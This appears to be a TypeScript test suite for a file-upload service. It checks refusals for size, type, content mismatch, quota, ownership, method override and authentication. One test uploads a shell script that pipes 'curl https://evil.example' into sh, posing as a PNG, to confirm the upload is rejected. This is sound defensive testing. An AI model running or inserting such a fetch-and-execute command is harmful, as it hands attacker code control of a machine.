// Every refusal of an upload, each a typed error in the service's JSON shape (with the request id
// the header carries), and nothing stored: too big, a type not allowed, bytes that are not the
// declared type, over the customer's quota, another's upload, and tus's own (method override).
import { UPLOADS } from '@tandem/contract'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { expectError, useEmulator } from '../helpers.js'
import { call } from '../helpers.js'
import { create, customerToken, idOf, patch, png, UPLOADS_URL, uploaded } from './helpers.js'

const emu = useEmulator({ plans: { support: false }, customerPlan: false })
afterEach(() => void vi.useRealTimers())

describe('upload refusals', () => {
  it('refuses a file over the limit at creation (413 upload_too_large): no upload is made', async () => {
    const token = await customerToken(emu(), 'cus_big')
    const res = await create(emu(), token, UPLOADS.maxFileBytes + 1, 'image/png')
    await expectError(res, 413, 'upload_too_large')
    expect(res.headers.get('location')).toBeNull()
    // The limit itself is fine.
    expect((await create(emu(), token, UPLOADS.maxFileBytes, 'image/png')).status).toBe(201)
  })

  it('refuses a type the contract does not allow (415 upload_type_not_allowed) and a deferred length', async () => {
    const token = await customerToken(emu(), 'cus_type')
    await expectError(await create(emu(), token, 10, 'text/html'), 415, 'upload_type_not_allowed')
    await expectError(await create(emu(), token, 10, 'image/svg+xml'), 415, 'upload_type_not_allowed')
    const deferred = await call(emu(), UPLOADS_URL, {
      method: 'POST',
      token,
      headers: { 'Tus-Resumable': '1.0.0', 'Upload-Defer-Length': '1', 'Upload-Metadata': 'filetype aW1hZ2UvcG5n' },
    })
    await expectError(deferred, 400, 'invalid_parameter')
    const long = await create(emu(), token, 10, 'text/plain', 'x'.repeat(UPLOADS.nameChars + 1))
    await expectError(long, 400, 'invalid_parameter')
  })

  it('refuses bytes that are not the declared type when the last one lands (415 upload_type_mismatch): nothing kept', async () => {
    const token = await customerToken(emu(), 'cus_script')
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
    const created = await create(emu(), token, script.length, 'image/png', 'cat.png')
    expect(created.status).toBe(201)
    const id = idOf(created)
    await expectError(await patch(emu(), token, id, script), 415, 'upload_type_mismatch')
    expect(emu().uploads.get(id)).toBeUndefined()
    expect(await emu().uploads.bytes(id)).toBeUndefined()
    const head = await call(emu(), `${UPLOADS_URL}/${id}`, {
      method: 'HEAD',
      token,
      headers: { 'Tus-Resumable': '1.0.0' },
    })
    expect(head.status).toBe(404)
    // Text that is not text (a NUL), and a PNG declared as a PDF, likewise.
    const nul = Buffer.from('hello\u0000world')
    const t = idOf(await create(emu(), token, nul.length, 'text/plain'))
    await expectError(await patch(emu(), token, t, nul), 415, 'upload_type_mismatch')
    const image = png(2, 2)
    const p = idOf(await create(emu(), token, image.length, 'application/pdf'))
    await expectError(await patch(emu(), token, p, image), 415, 'upload_type_mismatch')
  })

  it('holds a customer to the quota (413 upload_quota_exceeded); deleting an upload frees its bytes', async () => {
    const token = await customerToken(emu(), 'cus_quota')
    const ids: string[] = []
    for (let held = 0; held + UPLOADS.maxFileBytes <= UPLOADS.customerQuotaBytes; held += UPLOADS.maxFileBytes)
      ids.push(idOf(await create(emu(), token, UPLOADS.maxFileBytes, 'application/pdf')))
    const over = await create(emu(), token, 1, 'text/plain')
    await expectError(over, 413, 'upload_quota_exceeded')
    expect(over.headers.get('location')).toBeNull()
    // Another customer's quota is their own.
    expect((await create(emu(), await customerToken(emu(), 'cus_other_quota'), 1, 'text/plain')).status).toBe(201)
    const del = await call(emu(), `${UPLOADS_URL}/${ids[0]}`, {
      method: 'DELETE',
      token,
      headers: { 'Tus-Resumable': '1.0.0' },
    })
    expect(del.status).toBe(204)
    expect(emu().uploads.get(ids[0]!)).toBeUndefined()
    expect((await create(emu(), token, 1, 'text/plain')).status).toBe(201)
  })

  it("answers another's upload as unknown (404 upload_not_found) to HEAD, PATCH and DELETE", async () => {
    const ada = await customerToken(emu(), 'cus_ada_own')
    const bob = await customerToken(emu(), 'cus_bob_own')
    const agent = await emu().mintToken({ subject: 'agt_own', scope: ['support'] })
    const bytes = Buffer.from('plain words')
    const id = idOf(await create(emu(), ada, bytes.length, 'text/plain'))
    for (const token of [bob, agent]) {
      const tus = { 'Tus-Resumable': '1.0.0' }
      await expectError(
        await call(emu(), `${UPLOADS_URL}/${id}`, { method: 'DELETE', token, headers: tus }),
        404,
        'upload_not_found',
      )
      await expectError(await patch(emu(), token, id, bytes), 404, 'upload_not_found')
      expect((await call(emu(), `${UPLOADS_URL}/${id}`, { method: 'HEAD', token, headers: tus })).status).toBe(404)
    }
    expect(emu().uploads.get(id)).toMatchObject({ owner: 'cus_ada_own', offset: 0, complete: false })
    // tus's own refusals come in the service's shape too: bytes from an offset it does not hold.
    const wrong = await patch(emu(), ada, id, bytes, 3)
    expect((await expectError(wrong, 409, 'invalid_parameter')).error.message).toMatch(/offset/i)
    // And what tus reads before any rule of ours: a body not sent as tus bytes, metadata it cannot parse.
    const typed = await call(emu(), `${UPLOADS_URL}/${id}`, {
      method: 'PATCH',
      token: ada,
      headers: { 'Tus-Resumable': '1.0.0', 'Upload-Offset': '0', 'Content-Type': 'application/json' },
      body: '{}',
    })
    await expectError(typed, 415, 'unsupported_media_type')
    const garbled = await call(emu(), UPLOADS_URL, {
      method: 'POST',
      token: ada,
      headers: { 'Tus-Resumable': '1.0.0', 'Upload-Length': '3', 'Upload-Metadata': 'filename not*base64!' },
    })
    await expectError(garbled, 400, 'invalid_parameter')
    // A PATCH passed off as a DELETE (X-HTTP-Method-Override) is still a PATCH: tus is not told otherwise.
    const disguised = await call(emu(), `${UPLOADS_URL}/${id}`, {
      method: 'PATCH',
      token: ada,
      headers: { 'Tus-Resumable': '1.0.0', 'Upload-Offset': '0', 'X-HTTP-Method-Override': 'DELETE' },
    })
    expect(disguised.status).not.toBe(204)
    expect(emu().uploads.get(id)).toBeDefined()
  })

  it('refuses a request without a token, or with a bad one, before tus sees it', async () => {
    await expectError(await create(emu(), '', 10, 'text/plain'), 401, 'missing_token')
    await expectError(await create(emu(), 'not.a.token', 10, 'text/plain'), 401, 'malformed_token')
    const reader = await emu().mintToken({ subject: 'agt_reader', scope: ['support:read'] })
    await expectError(await create(emu(), reader, 10, 'text/plain'), 403, 'insufficient_scope')
    // And an agent uploads like a customer does.
    const agent = await emu().mintToken({ subject: 'agt_up', scope: ['support'] })
    const id = await uploaded(emu(), agent, Buffer.from('notes'), 'text/plain', 'notes.txt')
    expect(emu().uploads.get(id)).toMatchObject({ owner: 'agt_up', complete: true, name: 'notes.txt' })
  })

  it('deletes an upload no message took within UPLOADS.unattachedTtlMs (its quota with it)', async () => {
    const token = await customerToken(emu(), 'cus_forgot')
    const id = await uploaded(emu(), token, Buffer.from('draft'), 'text/plain')
    vi.useFakeTimers({ toFake: ['Date'] })
    vi.setSystemTime(Date.now() + UPLOADS.unattachedTtlMs + 1000)
    // The next creation sweeps (only the clock moved; a token of that day).
    expect((await create(emu(), await customerToken(emu(), 'cus_forgot'), 1, 'text/plain')).status).toBe(201)
    expect(emu().uploads.get(id)).toBeUndefined()
    expect(await emu().uploads.bytes(id)).toBeUndefined()
  })
})
